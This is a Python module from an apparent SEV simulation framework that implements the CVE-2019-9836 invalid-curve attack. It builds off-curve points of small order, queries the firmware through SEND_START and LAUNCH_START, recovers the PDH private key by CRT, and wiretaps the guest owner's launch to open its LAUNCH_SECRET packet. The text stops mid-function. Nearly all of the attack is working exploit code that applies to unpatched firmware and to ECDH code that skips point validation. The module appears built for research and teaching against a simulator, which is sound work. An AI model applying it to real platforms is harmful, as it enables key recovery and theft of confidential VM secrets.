"""F1: CVE-2019-9836: an invalid-curve attack on the SEV platform's PDH key.

Firmware up to 0.17 build 11 multiplied whatever point the host handed it by the PDH private
key without checking that the point lies on P-384. Its affine or Jacobian formulas never use
the curve's `b`, so a point on another curve y^2 = x^3 - 3x + b' is multiplied on that curve;
if the point has small order r, the shared X the firmware derives its keys from is one of r
values, which leaks the key modulo r. Residues for enough coprime r give the key (CRT), and
with it every session a guest owner ever sealed to this PDH: the launch secret included.

The same unchecked multiplication serves every command that takes a peer's point. Through
LAUNCH_START each guess costs a command (the session the host sealed opens or not): the
attack uses it for the key's parity. SEND_START of the host's own guest, with the point as
the "target's PDH", returns a session the firmware sealed under keys derived from that X:
one command per point, and the guesses are checked offline against the session's MAC.
"""

from __future__ import annotations

import hashlib
import hmac
import itertools
import math
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from sevsim.abi.curve_a3 import Jacobian, P, add_affine, affine, multiply, xs
from sevsim.abi.sev_cert import (
    Algo,
    CertChain,
    Curve,
    EcPublicKey,
    SevCert,
    Signature,
    Usage,
)
from sevsim.abi.sev_session import (
    MEASUREMENT_API_PREFIX,
    PacketHeader,
    Session,
    TransportKeys,
    key_encryption_keys,
    master_secret,
    open_packet,
)
from sevsim.abi.status import PlatformStatus, SevStatus
from sevsim.attacks.framework import Attack, Attempt, Setting
from sevsim.attacks.lab import Lab
from sevsim.attacks.toolkit import HypervisorAttacker
from sevsim.attest.sev_owner import GuestOwner as LaunchOwner
from sevsim.errors import FirmwareError

ORDER = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF"
            "581A0DB248B0A77AECEC196ACCC52973", 16)  # P-384's group order: the key is below
LIMIT = 1 << 12  # the largest prime power solved offline (a guess per residue)
# Points tried for an order before taking the group for non-cyclic: in a cyclic group a point
# falls short of a prime q's full power with odds 1/q, so twelve misses in a row at q = 2 are
# 1 in 4096; each try costs a multiplication by the 384-bit cofactor.
TRIES = 12
MAX_GROUPS = 12  # residue groups of unknown relative sign, tried 2^(n-1) ways at the end
_ECDSA = ec.ECDSA(hashes.SHA256())

# Curves y^2 = x^3 - 3x + b over P-384's field with known orders p + 1 - t, as (b, t). First
# the nodal cubics: b = -2, whose smooth points form the norm-1 torus of F_p^2, a cyclic group
# of order p + 1 = 2^32 * 3^2 * 5 * 7 * 13 * 17 * 97 * 101 * 193 * 241 * 257 * 641 * 673 * ...,
# and b = 2, of order p - 1 (3 is a square mod p, -3 is not). Then, computed offline: curves
# with complex multiplication by discriminants -D up to 2000 (a root j of the Hilbert class
# polynomial mod p gives b^2 = 4(j - 1728)/j, Cornacchia's 4p = t^2 + D v^2 gives t, a point
# times the order checks it; tools/invalid_curves.py prints these) and random curves counted
# with PARI/GP's ellsea. Public mathematics, kept for the small primes dividing the orders;
# no platform data.
_TABLE = """
ddbb8c5d63ebbd921e144b6cce0b0b8f62d94d985cf29eb97514051ea68072f68c3d9f5fef2153d042e6cf1b70c78869
-1dced2b1f4406fd1a1cb1e2b60e34d4b5f836305df7e338d8
224473a29c14426de1ebb49331f4f4709d26b267a30d61468aebfae1597f8d0873c2609f10deac2fbd1930e58f387796
+1dced2b1f4406fd1a1cb1e2b60e34d4b5f836305df7e338d8
67ba7af628fb34f94c02b292b4da2d7264c0605fbca112689f92a868e6b6cdb9d9a74579a533afbb452aeaa262aac814
-7f413375271a264197d2894652cf2384726d067cf7aac0f3
98458509d704cb06b3fd4d6d4b25d28d9b3f9fa0435eed97606d5797194932452658ba855acc5044bad5155e9d5537eb
+7f413375271a264197d2894652cf2384726d067cf7aac0f3
098adb5bda36759630fa0eb898e93b8584b517374b511fee955efdc2695e4b1605999fb34485a733636564e975aee250
+1dced2b1f4406fd1a1cb1e2b60e34d4b5f836305df7e338d8
f67524a425c98a69cf05f1476716c47a7b4ae8c8b4aee0116aa1023d96a1b4e8fa66604bbb7a58cc9c9a9b178a511daf
-1dced2b1f4406fd1a1cb1e2b60e34d4b5f836305df7e338d8
b12882b6ffff40e6a1003cf18839450fa5cf8e0386dc1cd4c9d3032de64a9f52bed49680eeb959f3af39b470fc1ec7ac
-174d57a071e5f105c77e46f5e1321a1d5ece84f245d6ee1d4
4ed77d490000bf195effc30e77c6baf05a3071fc7923e32b362cfcd219b560ac412b697e1146a60c50c64b9003e13853
+174d57a071e5f105c77e46f5e1321a1d5ece84f245d6ee1d4
dbb245993aa480d2a24c12075e3cdbe66fc35430c442960d491238b9675b9ef34e30fcb197d68d615630cb3f5c0c8b03
+1e8a7b8d5dbee48ef0037819b79b3862bf6e8fff2f50cc8b8
244dba66c55b7f2d5db3edf8a1c32419903cabcf3bbd69f2b6edc74698a4610bb1cf034d6829729ea9cf34c1a3f374fc
-1e8a7b8d5dbee48ef0037819b79b3862bf6e8fff2f50cc8b8
a4c0964639ca74b3044abd2e598ffcafbbb606debdcd4e1a123953e0582ad230ec68fce63e9bd6ef2e8d282da1d48ff5
+12c4610932f5ecb9703d5833b7959c34d6775ad3ecf8842cc
5b3f69b9c6358b4cfbb542d1a67003504449f9214232b1e5edc6ac1fa7d52dce13970318c1642910d172d7d35e2b700a
-12c4610932f5ecb9703d5833b7959c34d6775ad3ecf8842cc
c7d3e1e2d69e9db2300ccc691da2104e04f1972f1468186844e1cebb4b0eb71dff57d59ec61a6301ca1a2af16202f1e4
+19083886b74c9351f4e5f4017b9ed294d45b9098f71f966d9
382c1e1d2961624dcff33396e25defb1fb0e68d0eb97e797bb1e3144b4f148e100a82a6039e59cfe35e5d50f9dfd0e1b
-19083886b74c9351f4e5f4017b9ed294d45b9098f71f966d9
3931e9b68cd2485b5fd625d67111274d5cd603fe8bee0522773765f8cbdefd486b7cbdcc1dcee4f5526ee929e737ecfb
+bb658f18d2ed46c704655c56abd483885ddcce99fd47ae69
c6ce1649732db7a4a029da298eeed8b2a329fc017411fadd88c89a07342102b694834232e2311b0aad9116d718c81304
-bb658f18d2ed46c704655c56abd483885ddcce99fd47ae69
f8ee4c400426b713a4a14797692740ce4378369094e82fe41d84e59810ca1f70a45d274c5c8e32b539fe51fe5e74672f
+13d53e34d71fabc22e59a1fbbc3b64c80208fbd023193effb
0711b3bffbd948ec5b5eb86896d8bf31bc87c96f6b17d01be27b1a67ef35e08e5ba2d8b2a371cd4ac601ae02a18b98d0
-13d53e34d71fabc22e59a1fbbc3b64c80208fbd023193effb
48224bd902a5a8d9c66d4ddfe524315e08141b394d9e4a651ed63c4c36eebb440a5ec8d4f4af2001ea42e366da5e8fe9
-18bcdd404fea5d7f2bf6af9f1ac5478209abfd87399260573
b7ddb426fd5a57263992b2201adbcea1f7ebe4c6b261b59ae129c3b3c91144baf5a1372a0b50dffe15bd1c9a25a17016
+18bcdd404fea5d7f2bf6af9f1ac5478209abfd87399260573
94ecc2c053f7da73e517b590448a0d590fd1abd10f3ca733dec593cf19918a797da700f5d8e24dd4ef309f2cd75ced4d
+9e2407c53d15f3479dae43946411e044f98327e1f8af7988
6b133d3fac08258c1ae84a6fbb75f2a6f02e542ef0c358cc213a6c30e66e75858258ff09271db22b10cf60d428a312b2
-9e2407c53d15f3479dae43946411e044f98327e1f8af7988
c965f6524c22b32401cfee3bb56273e1eceaf863ae4981f32110dd0894492df80312604378d97670a4b2973cdb5f8b54
-93d14bb0c1dc685ee4b4422735febccbc69276452fb6abf9
369a09adb3dd4cdbfe3011c44a9d8c1e1315079c51b67e0cdeef22f76bb6d206fced9fbb8726898f5b4d68c424a074ab
+93d14bb0c1dc685ee4b4422735febccbc69276452fb6abf9
1b5d8cfa9c321328a6ee2bbef0faf04e0a31359670a9f0de1b26507f72794716206bad1ad0169f175da282bb83988b20
-d1092934fc09bf7dacd210c39fd329f8349e4e26a917e9dc
e4a2730563cdecd75911d4410f050fb1f5ceca698f560f21e4d9af808d86b8e8df9452e42fe960e8a25d7d457c6774df
+d1092934fc09bf7dacd210c39fd329f8349e4e26a917e9dc
209983aa08af2dc3e9e75eda4af7a13df422e5d3a567b233990a13beb40892559ea41f7d64948fe9df04ec985cfff506
+150a09760799604bd4f72a0a02002d9a663bcb4436876e83b
df667c55f750d23c1618a125b5085ec20bdd1a2c5a984dcc66f5ec414bf76da9615be0819b6b701620fb1368a3000af9
-150a09760799604bd4f72a0a02002d9a663bcb4436876e83b
e9e143ae1c8d29f147abeb75e72eae341c203f2b1143f87dd936b8264e9fec19713f9de0ee4b61381d46f104aa6c2982
+d4c744b54cabd7922061570e7deb14a0ad2f86b3dab66195
161ebc51e372d60eb854148a18d151cbe3dfc0d4eebc078226c947d9b16013e58ec0621e11b49ec7e2b90efc5593d67d
-d4c744b54cabd7922061570e7deb14a0ad2f86b3dab66195
adadc2463f1f4e40a78e9307ad4f3948bbfde50587f78a5459a75fab259082c6481f77a4c01f012c023b29a689bef64e
+1764907c5878ab19e9c26b170d002960feecef33e3c89509c
52523db9c0e0b1bf58716cf852b0c6b744021afa780875aba658a054da6f7d38b7e0885a3fe0fed3fdc4d65a764109b1
-1764907c5878ab19e9c26b170d002960feecef33e3c89509c
2f74f6f0f1426470a732d2886b76a9e3f36a6e9b4d212949548a3c142e6c56be707958923bc89f0cf72944f6038db354
-8b804b175fa28a4db53eb62b5e09d3b9ef20ce5e96ff3fd3
d08b090f0ebd9b8f58cd2d779489561c0c959164b2ded6b6ab75c3ebd193a9408f86a76cc43760f308d6bb0afc724cab
+8b804b175fa28a4db53eb62b5e09d3b9ef20ce5e96ff3fd3
efce52ea73626cb10fe6b59e5374606219000ac99930c975bf3fc5c4c0c930d0466dd1651698352dfc78bb0529c9adf7
-1e8b6b77487dd5a7e2a613ac08f2095c1d44cbd9fc9881e92
1031ad158c9d934ef0194a61ac8b9f9de6fff53666cf368a40c03a3b3f36cf2eb9922e99e967cad2038744fbd6365208
+1e8b6b77487dd5a7e2a613ac08f2095c1d44cbd9fc9881e92
ec3d05aa0a2d6728f42d09502b15faa718925857d1508d6cda94e7a62e6c66e3c46d8b3a4ee6ffbb100d418738099942
-29a73f833c3d8302c4e521e8548498eb41ff6c6f1f1f15d5
13c2fa55f5d298d70bd2f6afd4ea0558e76da7a82eaf7293256b1859d193991b3b9274c4b1190044eff2be79c7f666bd
+29a73f833c3d8302c4e521e8548498eb41ff6c6f1f1f15d5
2c5f1583b97c0a227945cf8d3b26449d2169e7674735205d4c7ea0a380545bf73425c20f528b1a454e9c9b1e73e38dfd
+1f2dfa950508759282260d0762fc1ec752a4b4a138b6611c5
d3a0ea7c4683f5dd86ba3072c4d9bb62de961898b8cadfa2b3815f5c7faba407cbda3defad74e5bab16364e28c1c7202
-1f2dfa950508759282260d0762fc1ec752a4b4a138b6611c5
62a5bcd4e267683364160653b2eafdcd6f7c7101a9581e07b6a20491028374bbf006fb23186bd89060cd6dc7cd223936
-1e8a7b8d5dbee48ef0037819b79b3862bf6e8fff2f50cc8b8
9d5a432b1d9897cc9be9f9ac4d15023290838efe56a7e1f8495dfb6efd7c8b430ff904dbe794276f9f32923932ddc6c9
+1e8a7b8d5dbee48ef0037819b79b3862bf6e8fff2f50cc8b8
5b7a1b66b4018cfb5a3bc296c46c1f12f0bdecd313560110ff936cdf3240ec5fbcbfa0da7604c2a66471da4014d9e616
+1750649610d7143809f7566d26a08e77d047ec527bf5bd34f
a485e4994bfe7304a5c43d693b93e0ed0f42132ceca9feef006c9320cdbf139f43405f2489fb3d599b8e25c0eb2619e9
-1750649610d7143809f7566d26a08e77d047ec527bf5bd34f
e447cf5a29a047872cdc85dc6cd40e2897ed2b5b02399d3550e1ffe0a63c2eb11c8e8f436c8da750601fbf2ddc68fb8a
+1fef8d8bb591feea1d5a12f69621841244e509c54f29bb856
1bb830a5d65fb878d3237a23932bf1d76812d4a4fdc662caaf1e001f59c3d14de37170bb937258af9fe040d323970475
-1fef8d8bb591feea1d5a12f69621841244e509c54f29bb856
6ffdaf7d4e6577c9e33956395034f5369176ecb0fd308b7af59876cac394e59480bfa9465eff2d5fe95c44fcca88921d
+fe64d00d46b264dd1dc3850d216f786ff8996f41e07ee684
90025082b19a88361cc6a9c6afcb0ac96e89134f02cf74850a6789353c6b1a6a7f4056b8a100d2a016a3bb0435776de2
-fe64d00d46b264dd1dc3850d216f786ff8996f41e07ee684
2c4d9bdcff3b9cc86c1f92a43acfd00d57c411c2425998756f83c9cba6929854ba2e8d6606bea28583fb9351f4580528
-1b0bb0b8a7d27675a0fd0d0ba1a4a65a8ce1b8ae976d023e7
d3b2642300c4633793e06d5bc5302ff2a83bee3dbda6678a907c3634596d67aa45d17298f9415d7a7c046caf0ba7fad7
+1b0bb0b8a7d27675a0fd0d0ba1a4a65a8ce1b8ae976d023e7
a4f8540d8b61e3edbe7b0e45282681f4fb75e6ebb56e36ca1798b84a0fa584c4b242c0840c871a304fd7196dfa728df7
+12c4610932f5ecb9703d5833b7959c34d6775ad3ecf8842cc
5b07abf2749e1c124184f1bad7d97e0b048a19144a91c935e86747b5f05a7b3a4dbd3f7af378e5cfb028e693058d7208
-12c4610932f5ecb9703d5833b7959c34d6775ad3ecf8842cc
6569407b16530a2d799bff032ba9bf0678369eec959148a0d757f8104af3e0989c0c86b7f6c354b3d9632b47e9c004cf
-503cce6a3b558f4960f113f72df1a25bfad60d3214310533
9a96bf84e9acf5d2866400fcd45640f987c961136a6eb75f28a807efb50c1f6663f37947093cab4c269cd4b9163ffb30
+503cce6a3b558f4960f113f72df1a25bfad60d3214310533
2eb31c99092fe0e4fb507a45d0e303c7573edc8c2207c42e9604cb9a0daf484bfdb544a1e18a199ddc3f58711cd44656
+1cb42ce81ae1afdffcc4062dd54e30ee0234f19943a59b58e
d14ce366f6d01f1b04af85ba2f1cfc38a8c12373ddf83bd169fb3465f250b7b3024abb5d1e75e66223c0a78fe32bb9a9
-1cb42ce81ae1afdffcc4062dd54e30ee0234f19943a59b58e
43abf7376df6342dbf809b7bdbd49192b961ba0da490b4992a7e655c8d34c9897c3af4d70ba7542fc47e5850aecec640
+9e2407c53d15f3479dae43946411e044f98327e1f8af7988
bc5408c89209cbd2407f6484242b6e6d469e45f25b6f4b66d5819aa372cb367583c50b27f458abd03b81a7b0513139bf
-9e2407c53d15f3479dae43946411e044f98327e1f8af7988
c2d765428a78e7f965d40d7fe802cb62962ad940a353375f5846e4bfb4924b010286891f2b996736c56a446c96c100dc
+15f91e474395edb3a80fa627ada438d68b177f35203c6c8dc
3d289abd758718069a2bf28017fd349d69d526bf5cacc8a0a7b91b404b6db4fdfd7976dfd46698c93a95bb94693eff23
-15f91e474395edb3a80fa627ada438d68b177f35203c6c8dc
78e510617311d8a3c2ce6f447ed4d57b1e2feb89414c343c1027c4d1c386bbc4cd613e30d8f16adf91b7584a2265b1f5
+171238b28f6b66574df24051586c0dd8f7ae476cde7fbad79
9b810e766ec9d28663ca828dd5f4b3b2e4b06ce60741c7a87ce42c8218072e8c35bf992dc9e9c616612e7696a6cecc1b
+db62dc72a3c2bcbdaeb92a3b3fa85cef2082b6dc889edd20
1a2b8f1ff1fd42a29755d4c13a902931cd447e35b8b6d8fe442e3d437204e52db2221a58008a05a6c4647159c324c985
+1bb11633bf4d40cad80e48dd735203503bfea34cc6944165e
afbd67f9619699cfe1988ad9f06c144a025b413f8a9a021ea648a7dd06839eb905b6e6e307d4bedc51431193e6c3f339
+4ddc52295b970cee057669b792dc21f6f0de2a74066c191c
8d88348a7eed8d14f06d3fef701966a0c381e88f38c0c8fd8712b8bc076f3787b9d179e06c0fd4f5f8130c4237730edf
+d25221915cf41fef3cf2cd1ef32b951e69e9ee931c16d908
6a8ac4ba05805975ed2f89d94a2f20aaf3c64af775a89294c2cd789a380208a9ad45f23d3b1a11df587fd2803bab6c39
+36d9436f745440ee1ab2b0079356ac2aff67da71f9e92c9c
4be03db0dc2574bdb94067edfe175330a11d459a2f978d8719999e3fa46d6753ec148cb48e73ca47ea90a8f0d66b829e
+c7459511a50169077b127f90fc8f2273749913035737e39c
cf1822ffbc6887782b491044d5e341245c6e433715ba2bdd177219d30e7a269fd95bafc8f2a4d27bdcf4bb99f4bea973
-1d34f174925141d25b6a128252876240c483220933b9cdbfe
ffed9235288bc781ae66267594c9c9500925e4749b575bd13653f8dd9b1f282e4067c3584ee207f8da94e3e8ab73738f
-1737e0e0c77c0cde9b6bc4ac4ecaabf8fffe8b70a205b95a4
ef8acd128b4f2fc15f3f57ebf30b94fa82523e86feac7eb7dc38f519b91751dacdbd47d364be8049a372db8f6e405d93
-14d4f30939ebaf96e90d8f81e75c1c0ad15b0fdce1b048f5f
e8624fab5186ee32ee8d7ee9770348a05d300cb90706a045defc044a09325626e6b58de744ab6cce80877b6f71e1f6d2
-3c65c876c5cd13a617d645a0ec073f16fa23ed13971c6939
2d3d854e061b90303b08c6e33c7295782d6c797f8f7d9b782a1be9cd8697bbd0e2520e33e44c50556c71c4a66148a86f
-196c3614ca1bb913ca421ac0f7770534c43ec4938e7795d55
"""


def _curves_table() -> tuple[tuple[int, int], ...]:
    lines = _TABLE.split()
    return tuple((int(b, 16), int(t, 16)) for b, t in zip(lines[::2], lines[1::2], strict=True))


CURVES: tuple[tuple[int, int], ...] = ((P - 2, 0), (2, 2), *_curves_table())


def factor_small(n: int) -> dict[int, int]:
    """The primes below LIMIT dividing n, as {prime: exponent}, the exponent kept while the
    prime power stays below LIMIT (the offline guesses for a residue are that many)."""
    found: dict[int, int] = {}
    for q in range(2, LIMIT):
        if n % q == 0 and all(q % f for f in found):
            e = 1
            while n % q ** (e + 1) == 0 and q ** (e + 1) < LIMIT:
                e += 1
            found[q] = e
    return found


def two_adic(n: int) -> int:
    """The exponent of 2 in n."""
    return (n & -n).bit_length() - 1


@dataclass(frozen=True)
class InvalidCurve:
    """y^2 = x^3 - 3x + b with `points` points: where the firmware's formulas also work."""

    b: int
    points: int

    @cached_property
    def small(self) -> dict[int, int]:
        """The prime powers below LIMIT dividing the order, each a residue to learn."""
        return factor_small(self.points)

    @cached_property
    def smooth(self) -> int:
        """The part of the order made of primes below LIMIT, whole: every order asked of
        `point_of_order` divides it."""
        part = 1
        for q in factor_small(self.points):
            while self.points % (part * q) == 0:
                part *= q
        return part

    @cached_property
    def _lifted(self) -> dict[int, Jacobian | None]:
        return {}

    def lifted(self, i: int) -> Jacobian | None:
        """(order / smooth) times the curve's point at pseudo-random x number i, None where
        that x is not on the curve (small x give special points on the node curves, roots of
        unity among them). Kept: the long multiplication is paid once per point, and a point
        of any order m dividing `smooth` is then a short one away."""
        if i not in self._lifted:
            x = int.from_bytes(hashlib.sha384(i.to_bytes(4, "big")).digest(), "big") % P
            rhs = (x * x * x - 3 * x + self.b) % P
            on_curve = rhs != 0 and pow(rhs, (P - 1) // 2, P) == 1
            self._lifted[i] = (multiply(self.points // self.smooth,
                                        (x, pow(rhs, (P + 1) // 4, P), 1)) if on_curve else None)
        return self._lifted[i]

    def point_of_order(self, m: int) -> Jacobian | None:
        """A point of order exactly m (a divisor of `smooth`): the cofactor times points at
        pseudo-random x. None when TRIES points all fall short: the group is not cyclic there
        (Z/q^a x Z/q^b, possible for q dividing p - 1) and no point has that order."""
        primes = list(factor_small(m))  # m is made of primes below LIMIT
        found = 0
        for i in range(1 << 16):
            lifted = self.lifted(i)
            if lifted is None:
                continue
            candidate = multiply(self.smooth // m, lifted)
            if all(multiply(m // q, candidate)[2] for q in primes):
                return candidate
            found += 1
            if found == TRIES:
                break
        return None


def curves() -> Iterator[InvalidCurve]:
    """The table's curves with their small prime powers."""
    for b, trace in CURVES:
        yield InvalidCurve(b, P + 1 - trace)


# -- the attack ----------------------------------------------------------------------------------


def crt(residues: dict[int, int]) -> tuple[int, int]:
    """(x, M) with x = r mod m for each {m: r}, M the product of the (coprime) moduli."""
    x, modulus = 0, 1
    for m, r in residues.items():
        t = (r - x) * pow(modulus, -1, m) % m
        x, modulus = x + modulus * t, modulus * m
    return x % modulus, modulus


class PdhOracle:
    """One SEND_START per point: the firmware seals fresh transport keys for the 'target'
    whose PDH is our point, under keys derived from X of (PDH key) * point; we keep the
    session and test guesses of that X against its MAC offline."""

    def __init__(self, hv: HypervisorAttacker, handle: int) -> None:
        self.fw, self.handle, self.queries = hv.firmware, handle, 0
        api = self.fw.platform_status()
        self.api = (api.api_major, api.api_minor)
        self.cek, self.oca, self.pek = (ec.generate_private_key(ec.SECP384R1())
                                        for _ in range(3))
        cek = self._cert(Usage.CEK, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.cek.public_key()), ((Usage.CEK, self.cek),))
        oca = self._cert(Usage.OCA, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.oca.public_key()), ((Usage.OCA, self.oca),))
        pek = self._cert(Usage.PEK, Algo.ECDSA_SHA256, EcPublicKey.from_key(
            self.pek.public_key()), ((Usage.OCA, self.oca), (Usage.CEK, self.cek)))
        self.chain = CertChain(pek, oca, cek).to_bytes()

    def _cert(self, usage: Usage, algo: Algo, key: EcPublicKey,
              signers: tuple[tuple[Usage, ec.EllipticCurvePrivateKey], ...]) -> SevCert:
        unsigned = SevCert(self.api[0], self.api[1], usage, algo, key, Signature.empty(),
                           Signature.empty())
        sigs = [Signature.ecdsa(by, Algo.ECDSA_SHA256,
                                signer.sign(unsigned.signed_bytes(), _ECDSA))
                for by, signer in signers]
        sigs += [Signature.empty()] * (2 - len(sigs))
        return SevCert(self.api[0], self.api[1], usage, algo, key, sigs[0], sigs[1])

    def ask(self, point: Jacobian) -> Callable[[bytes], bool]:
        """Hand the firmware `point` as a target PDH; a test of a guessed shared X."""
        pdh = self._cert(Usage.PDH, Algo.ECDH_SHA256, EcPublicKey(Curve.P384, *affine(point)),
                         ((Usage.PEK, self.pek),))
        start = self.fw.send_start(self.handle, pdh.to_bytes(), self.chain, b"")
        self.fw.send_cancel(self.handle)
        self.queries += 1
        session = Session.from_bytes(start.session)

        def opens(shared_x: bytes) -> bool:
            _, kik = key_encryption_keys(master_secret(shared_x, session.nonce))
            return hmac.new(kik, session.wrap_tk, hashlib.sha256).digest() == session.wrap_mac

        return opens


def solve(opens: Callable[[bytes], bool], point: Jacobian, anchor: int, step: int,
          count: int) -> int | None:
    """The t in 0..count-1 with X of (anchor + step*t) * point opening the session."""
    current, delta = multiply(anchor, point), multiply(step, point)
    batch: list[Jacobian] = []
    if delta[2] == 0:  # step is a multiple of the order: one candidate
        return 0 if opens(xs([current])[0]) else None
    dx, dy = affine(delta)
    for _ in range(count):
        batch.append(current)
        current = add_affine(current, dx, dy)
    for t, x in enumerate(xs(batch)):
        if opens(x):
            return t
    return None


def recover_key(oracle: PdhOracle, pdh: tuple[int, int], trace: Callable[[str], None]
                ) -> int | None:
    """The PDH private key from its residues modulo small prime powers, one off-curve point
    each. One X serves k and -k, so a residue is only known up to sign unless the point's
    order also covers an anchor: a modulus the key is known for already, with k != -k there.
    Residues anchored to each other form a group, consistent up to one sign; the public PDH
    point decides the signs of the groups at the end."""
    table = list(curves())
    torus = table[0]
    known2, bits = 0, 0
    while bits < two_adic(torus.points):  # the torus's 2-part, eight bits per point
        nxt = min(bits + 8, two_adic(torus.points))
        point = torus.point_of_order(1 << nxt)
        if point is None:
            return None
        t = solve(oracle.ask(point), point, known2, 1 << bits,
                  (1 << (nxt - bits)) if bits else (1 << (nxt - 1)) + 1)
        if t is None:
            return None
        known2, bits = known2 + (t << bits), nxt
    trace(f"k mod 2^{bits} = 0x{known2:x} (up to sign), from four points on the node curve")
    groups: list[dict[int, int]] = [{1 << bits: known2}]
    pending = sorted(((q ** e, q, curve) for curve in table[1:] for q, e in curve.small.items()
                      if q > 2), key=lambda item: item[0])
    pending[:0] = [(q ** e, q, torus) for q, e in torus.small.items() if q > 2]
    while pending and math.prod(m for group in groups for m in group) <= ORDER:
        moduli = [m for group in groups for m in group]
        pending = [item for item in pending if all(m % item[1] for m in moduli)]
        step = _next_step(pending, groups)
        if step is None:
            break
        power, curve, anchor_mod, anchor_value, group = step
        point = curve.point_of_order(anchor_mod * power)
        if point is None:  # that order is out of reach on this curve: try the next
            pending = [item for item in pending if item[2] is not curve or item[0] != power]
            continue
        count = power if anchor_mod > 1 else power // 2 + 1  # unanchored: k and -k alike
        t = solve(oracle.ask(point), point, anchor_value, anchor_mod, count)
        if t is None:
            return None
        if group is None:
            groups.append({power: t})
        else:
            group[power] = (anchor_value + anchor_mod * t) % power
    modulus = math.prod(m for group in groups for m in group)
    trace(f"{oracle.queries} SEND_STARTs with off-curve points: the key modulo a "
          f"{modulus.bit_length()}-bit number, in {len(groups)} groups of unknown sign")
    if modulus <= ORDER:
        return None
    for signs in itertools.product((1, -1), repeat=len(groups) - 1):
        residues = dict(groups[0])
        for sign, group in zip(signs, groups[1:], strict=True):
            residues.update({m: sign * r % m for m, r in group.items()})
        value, _ = crt(residues)
        for k in (value, modulus - value):
            if 0 < k < ORDER:
                public = ec.derive_private_key(k, ec.SECP384R1()).public_key().public_numbers()
                if (public.x, public.y) == pdh:
                    return k
    return None


Step = tuple[int, "InvalidCurve", int, int, dict[int, int] | None]


def _next_step(pending: list[tuple[int, int, InvalidCurve]], groups: list[dict[int, int]]
               ) -> Step | None:
    """The cheapest residue an anchor on its curve ties to a group; else, while groups may
    be added, the cheapest one to start a new group with (one its curve can anchor more to).
    (power, curve, anchor modulus, k mod it, group; the modulus 1 and no group for a start)."""
    for power, _, curve in pending:
        for group in groups:
            anchor = _anchor(group, curve)
            if anchor is not None:
                return power, curve, anchor[0], anchor[1], group
    if len(groups) < MAX_GROUPS:
        for power, _, curve in pending:
            if len(curve.small) > 2:
                return power, curve, 1, 0, None
    return None


def _anchor(residues: dict[int, int], curve: InvalidCurve) -> tuple[int, int] | None:
    """The smallest modulus g (a known prime power's part dividing the curve's order)
    with k mod g != -k mod g: (g, k mod g); None if the curve has none yet."""
    best: tuple[int, int] | None = None
    for modulus, value in residues.items():
        g = math.gcd(modulus, curve.points)
        if g > 1 and 2 * value % g and (best is None or g < best[0]):
            best = (g, value % g)
    return best


class Wiretap:
    """The VMM's side of the guest owner's channel: it passes every message on and keeps a
    copy (the GODH certificate and session of LAUNCH_START, LAUNCH_MEASURE, the LAUNCH_SECRET
    packet). All of it crosses the host in the clear, by design."""

    def __init__(self, owner: LaunchOwner) -> None:
        self.owner = owner
        self.godh = self.session = self.measure = self.header = self.packet = b""

    @property
    def policy(self) -> int:
        """The owner's policy."""
        return self.owner.policy

    def start(self, pdh_cert: bytes, cert_chain: bytes) -> tuple[bytes, bytes]:
        """The owner's GODH certificate and session, copied."""
        self.godh, self.session = self.owner.start(pdh_cert, cert_chain)
        return self.godh, self.session

    def secret_packet(self, launch_measure: bytes, platform_status: bytes
                      ) -> tuple[bytes, bytes]:
        """The owner's LAUNCH_SECRET packet, copied with the measurement it is bound to."""
        status = PlatformStatus.from_bytes(platform_status)
        # from API 0.17 the packet's MAC covers the measurement too
        bound = (status.api_major, status.api_minor) >= MEASUREMENT_API_PREFIX
        self.measure = launch_measure[:32] if bound else b""
        self.header, self.packet = self.owner.secret_packet(launch_measure, platform_status)
        return self.header, self.packet


class InvalidCurvePdh(Attack):
    """Recover the PDH private key with off-curve points of small order, then open the
    guest owner's session and its LAUNCH_SECRET packet."""

    id = "F1"
    name = "CVE-2019-9836: invalid-curve attack on the SEV PDH"
    actor = "malicious hypervisor"
    source = ("C. Cohen (Google), 'AMD Secure Encrypted Virtualization (SEV) Key Recovery', "
              "advisory of 26 June 2019 (CVE-2019-9836)")
    fixes = (Setting("sev", features=frozenset({"fixed-firmware"})),
             Setting("sev-es", features=frozenset({"fixed-firmware"})))
    flaws = frozenset({"vulnerable_cve_2019_9836"})

    def not_applicable(self, setting: Setting) -> str | None:
        """Only the legacy SEV launch has a PDH session."""
        if setting.mode == "none":
            return "a plain VM has no launch session"
        if setting.mode == "snp":
            return "SNP launches have no PDH session: secrets follow attestation reports"
        return None

    def attempt(self, lab: Lab) -> Attempt:
        """Let the owner launch the victim (copying its messages), then attack the PDH."""
        victim = lab.victim("launch_secret", launch=False)
        owner = lab.owner_terms(victim).owner
        if owner is None:
            raise FirmwareError(SevStatus.INVALID_GUEST, "no guest owner session to attack")
        tap = Wiretap(owner)
        victim.vm.launch(owner=tap)
        hv = lab.hypervisor
        hv.run(victim.vm)
        lab.trace("relayed the guest owner's launch: kept its GODH, session and the "
                  f"LAUNCH_SECRET packet; the victim says {victim.vm.console.strip()!r}")
        parity = self._parity(lab, hv)
        own = lab.victim("secret_in_memory")  # our own VM, which we may SEND_START
        pdh_cert, _ = hv.firmware.pdh_cert_export()
        if not isinstance(pdh_cert.key, EcPublicKey):
            raise FirmwareError(SevStatus.INVALID_CERTIFICATE, "the PDH is not an EC key")
        pdh = (pdh_cert.key.qx, pdh_cert.key.qy)
        key = recover_key(PdhOracle(hv, own.vm.hv.firmware_handle), pdh, lab.trace)
        if key is None:
            return Attempt(b"", "the residues did not give the PDH key")
        lab.trace(f"the PDH private key: {key:096x} (odd: {key % 2 == 1}, as LAUNCH_START "
                  f"said: {parity})")
        return Attempt(self._open(tap, key), "the LAUNCH_SECRET packet, opened")

    @staticmethod
    def _parity(lab: Lab, hv: HypervisorAttacker) -> bool:
        """LAUNCH_START with the point (1, 0), of order 2 on y^2 = x^3 - 3x + 2: the session
        sealed for an odd key (shared X = 1) opens only if the key is odd."""
        session = Session.seal((1).to_bytes(48, "big"), bytes(16), bytes(16),
                               TransportKeys(bytes(16), bytes(16)), 0)
        api = hv.firmware.platform_status()
        godh = SevCert(api.api_major, api.api_minor, Usage.PDH, Algo.ECDH_SHA256,
                       EcPublicKey(Curve.P384, 1, 0), Signature.empty(), Signature.empty())
        try:
